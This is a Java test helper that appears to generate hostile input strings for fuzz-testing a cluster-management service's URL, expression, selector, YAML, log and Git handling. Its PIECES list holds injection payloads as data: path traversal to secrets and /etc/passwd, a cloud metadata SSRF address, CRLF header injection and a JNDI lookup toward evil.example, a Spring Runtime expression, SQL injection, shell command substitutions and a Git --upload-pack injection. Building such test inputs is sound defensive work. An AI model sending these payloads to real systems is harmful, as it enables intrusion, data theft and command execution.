package io.hyperfleet.hostile;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/**
 * Texts that obey nobody: pieces that mean something to a URL, an endpoint, an expression, a shell, a log, YAML, JSON,
 * SQL, Git or Prometheus, alone and put together. The same seed makes the same texts.
 */
public final class HostileTexts {

  private static final List<String> PIECES = List.of(
      // URLs
      "?watch=true", "x?dryRun=All", "x?fieldManager=a&force=true", "&limit=1", "#fragment", ";v=1", "x/status", "/x",
      "x/", "//x",
      "../../x", "..", ".", "%2e%2e%2f", "..%2f..%2fsecrets", "%2Fx", "%00", "%3Fwatch%3Dtrue", "%", "%zz",
      "x%0d%0aHost:%20evil.example",
      "http://169.254.169.254/latest/meta-data", "//evil.example/x", "x@evil.example", "file:///etc/passwd", "\\..\\x",
      "x:443", "[::1]",
      // Camel and Spring
      "#class:java.util.ArrayList", "#bean:camelContext", "{{env:HOME}}", "{{?sys:user.home}}", "${bean:x}",
      "${header.x}", "${env:HOME}",
      "#{T(java.lang.Runtime).getRuntime()}", "RAW(x)", "RAW{x}", "@{x}",
      "x1%3Fserializer%3D%23class%3Ajava.util.ArrayList",
      "x?ackMode=NONE&synchronousPull=true", "CamelHttpUri", "${cluster.spec.x}", "$${x}", "${", "}",
      "${jndi:ldap://evil.example/x}",
      // selectors
      "a,b=c", "a=b", "!a", "a in (b)", "a notin (b)", "a!=b", "metadata.name=x", "=", ",", "()", "a=b,", "x\\,y",
      "hyperfleet.io/x/y",
      // control characters, Unicode
      "\r\nX-Evil: 1", "\n", "\r", "\t", "\u0000", "x\u0000y", "\u001b[31m", "\u007f", "\u0085", "\u2028", "\u202e",
      "\u200b", "\ufeff",
      "\ud800", "\udc00x", "\ud83d\ude00", "e\u0301", "\uff0e\uff0e\uff0fx", "\u0130", "\u212a", "\uff1fwatch=true",
      "\u00e4", "\u0661",
      // metrics, logs, mails
      "a\"} 1\nfake_metric 2", "{a=\"b\"}", "# HELP x", "ERROR forged", "\nSigned-off-by: A <a@evil.example>",
      "A <a@evil.example>",
      "\n\nHyperFleet-Actor: root", "<script>alert(1)</script>",
      // shells, files, Git
      "'; drop table clusters; --", "\" or 1=1", "$(id)", "`id`", "; id", "| id", "&& id", "--flag", "-x",
      "--upload-pack=id", "~", "~/.ssh",
      ".git", ".git/config", ".GIT/hooks/x", "git~1", ".gitmodules", "HEAD", "refs/heads/x", "x.lock", "a..b", "a@{1}",
      "x^", "CON", "nul.txt",
      "aux", "x.", "x ", " x", "", " ", "*", "?", "C:\\x", "/etc/passwd", ".yaml", "x.yaml",
      // YAML and JSON
      "a: b", "- a", "{a: b}", "[a]", "!!java.util.ArrayList []", "&a [*a]", "*a", "# x", "---", "...", "| \n x", "yes",
      "null", "~x", "0644",
      "12:30", "1e999", "1_000", "NaN", "{\"a\": 1}", "\"}", "\",\"x\":\"", "\\u0000", "<<: *a",
      // names that nearly are one
      "A", "a_b", "-a", "a-", "a.-b", "a..b", ".a", "a.", "x".repeat(64), "x".repeat(254), "x".repeat(4000), "system:x",
      "kube-system",
      "default", "constructor", "__proto__");

  private static final List<String> GLUE = List.of("", "", "", "x", "a-1", "-", ".", "/", "?", "&", "=", ":", " ", "\n",
      "%20");
  private static final int MOST_PIECES = 4;

  private HostileTexts() {}

  /** Each piece alone. */
  public static List<String> pieces() {
    return PIECES;
  }

  /** As many texts as wanted, each put together of up to four pieces. */
  public static Stream<String> mixed(long seed, int count) {
    var random = new Random(seed);
    return Stream.generate(() -> mix(random)).limit(count);
  }

  /** All pieces, and as many put together. */
  public static Stream<String> all(long seed, int mixed) {
    return Stream.concat(PIECES.stream(), mixed(seed, mixed));
  }

  private static String mix(Random random) {
    var parts = new ArrayList<String>();
    int pieces = 1 + random.nextInt(MOST_PIECES);
    for (int i = 0; i < pieces; i++) {
      parts.add(one(GLUE, random));
      parts.add(one(PIECES, random));
    }
    parts.add(one(GLUE, random));
    return String.join("", parts);
  }

  private static String one(List<String> of, Random random) {
    return of.get(random.nextInt(of.size()));
  }
}
